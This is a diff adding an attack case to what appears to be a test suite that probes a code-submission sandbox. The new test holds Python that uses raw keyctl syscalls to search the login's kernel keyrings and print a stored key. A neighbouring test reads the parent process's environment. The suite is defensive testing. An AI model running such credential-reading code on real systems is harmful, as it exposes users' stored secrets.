@@ -232,6 +232,22 @@ for process in glob.glob("/proc/[0-9]*"):
 
 
 @attack(3)
+def reads_the_keyring(course: Course) -> Submission:
+    """Linux keeps keys for a login, among them those of network drives; every process of the login may ask for them."""
+    return course.blank().first(
+        """
+import ctypes, os
+ask = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
+libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(300)
+for ring in (-3, -4, -5):
+    key = libc.syscall(ask, 10, ring, b"user", W["key"].encode(), 0)
+    if key > 0:
+        print(text.raw[: libc.syscall(ask, 11, key, text, 300, 0)])
+"""
+    )
+
+
+@attack(3)
 def reads_the_parent_s_memory(course: Course) -> Submission:
     """The stack of the process that started the kernel, where its environment lies."""
     return course.blank().first(
